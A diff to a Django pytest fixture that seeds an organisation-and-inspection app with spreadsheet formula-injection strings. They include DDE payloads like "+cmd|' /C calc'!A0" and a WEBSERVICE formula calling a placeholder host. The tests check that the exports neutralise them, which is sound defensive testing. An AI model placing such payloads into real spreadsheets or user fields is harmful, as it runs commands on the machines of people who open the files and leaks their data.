@@ -10,6 +10,7 @@ import pytest
 from django.utils import timezone
 from openpyxl import load_workbook
 
+from zhibu.core.derived import changes_told_at_once
 from zhibu.core.spreadsheets import neutralise, safe_value, sheet_title
 from zhibu.inspections.models import InspectionPlan, RectificationItem
 from zhibu.organizations.models import OrganizationKind
@@ -47,56 +48,58 @@ def assert_inert(content: bytes, *, shows: tuple[str, ...] = ()) -> list[str]:
 @pytest.fixture
 def hostile(tree, personas, client_as):
     """Every kind of user text the exports carry, each starting with a formula trigger."""
-    branch = make_org(tree.a, '=HYPERLINK("http://x","组织")', OrganizationKind.BRANCH)
-    member = make_member(
-        tree.a1, name=HOSTILE, employer="+cmd|' /C calc'!A0", note="@SUM(1+1)*cmd|' /C calc'!A0", sponsors="-2+3"
-    )
-    create_unit(actor=SETUP, owner=tree.a, name="=1+1单位")
-    # The live refresh may already have judged this March (with the clock at its end): the hostile text replaces it.
-    Verdict.objects.update_or_create(
-        rule_id="MTG-04",
-        organization=branch,
-        period_key=f"{TODAY.year}-03",
-        defaults={
-            "period_start": datetime.date(TODAY.year, 3, 1),
-            "period_end": datetime.date(TODAY.year, 3, 31),
-            "status": VerdictStatus.MISSED,
-            "explanation": '=WEBSERVICE("http://x/"&A1)',
-            "computed_at": timezone.now(),
-        },
-    )
-    admin = client_as(personas["工委管理员"])
-    admin.post(
-        "/inspections/new/",
-        {
-            "organization": tree.gongwei.pk,
-            "scope": tree.gongwei.pk,
-            "title": "=1+2督查",
-            "kind": "regular",
-            "period_start": f"{TODAY.year}-01-01",
-            "period_end": f"{TODAY.year}-09-30",
-            "inspectors": [personas["工委管理员"].pk],
-            "submission_key": uuid.uuid4().hex,
-        },
-    )
-    plan = InspectionPlan.objects.get()
-    target = plan.targets.get(organization=tree.a1)
-    admin.post(
-        f"/inspections/{plan.pk}/targets/{target.pk}/",
-        {
-            "found_on": TODAY.isoformat(),
-            "description": '=HYPERLINK("http://x","问题")',
-            "rule_id": "MTG-04",
-            "task_1": "@cmd|' /C calc'!A0",
-            "owner_1": member.pk,
-            "deadline_1": (TODAY + datetime.timedelta(days=10)).isoformat(),
-            "evidence_1": "佐证",
-            "submission_key": uuid.uuid4().hex,
-        },
-    )
-    assert RectificationItem.objects.count() == 1
-    sheet = rating_services.create_sheet(actor=personas["工委管理员"], organization=tree.gongwei, year=LAST_YEAR)
-    return {"branch": branch, "member": member, "sheet": sheet}
+    # The verdict below replaces what the refresh judged, so the refresh runs now, not when the fixtures are built.
+    with changes_told_at_once():
+        branch = make_org(tree.a, '=HYPERLINK("http://x","组织")', OrganizationKind.BRANCH)
+        member = make_member(
+            tree.a1, name=HOSTILE, employer="+cmd|' /C calc'!A0", note="@SUM(1+1)*cmd|' /C calc'!A0", sponsors="-2+3"
+        )
+        create_unit(actor=SETUP, owner=tree.a, name="=1+1单位")
+        # The live refresh may already have judged this March (with the clock at its end): the hostile text replaces it.
+        Verdict.objects.update_or_create(
+            rule_id="MTG-04",
+            organization=branch,
+            period_key=f"{TODAY.year}-03",
+            defaults={
+                "period_start": datetime.date(TODAY.year, 3, 1),
+                "period_end": datetime.date(TODAY.year, 3, 31),
+                "status": VerdictStatus.MISSED,
+                "explanation": '=WEBSERVICE("http://x/"&A1)',
+                "computed_at": timezone.now(),
+            },
+        )
+        admin = client_as(personas["工委管理员"])
+        admin.post(
+            "/inspections/new/",
+            {
+                "organization": tree.gongwei.pk,
+                "scope": tree.gongwei.pk,
+                "title": "=1+2督查",
+                "kind": "regular",
+                "period_start": f"{TODAY.year}-01-01",
+                "period_end": f"{TODAY.year}-09-30",
+                "inspectors": [personas["工委管理员"].pk],
+                "submission_key": uuid.uuid4().hex,
+            },
+        )
+        plan = InspectionPlan.objects.get()
+        target = plan.targets.get(organization=tree.a1)
+        admin.post(
+            f"/inspections/{plan.pk}/targets/{target.pk}/",
+            {
+                "found_on": TODAY.isoformat(),
+                "description": '=HYPERLINK("http://x","问题")',
+                "rule_id": "MTG-04",
+                "task_1": "@cmd|' /C calc'!A0",
+                "owner_1": member.pk,
+                "deadline_1": (TODAY + datetime.timedelta(days=10)).isoformat(),
+                "evidence_1": "佐证",
+                "submission_key": uuid.uuid4().hex,
+            },
+        )
+        assert RectificationItem.objects.count() == 1
+        sheet = rating_services.create_sheet(actor=personas["工委管理员"], organization=tree.gongwei, year=LAST_YEAR)
+        return {"branch": branch, "member": member, "sheet": sheet}
 
 
 def test_member_audit_and_list_exports_keep_user_text_as_text(tree, personas, client_as, hostile):
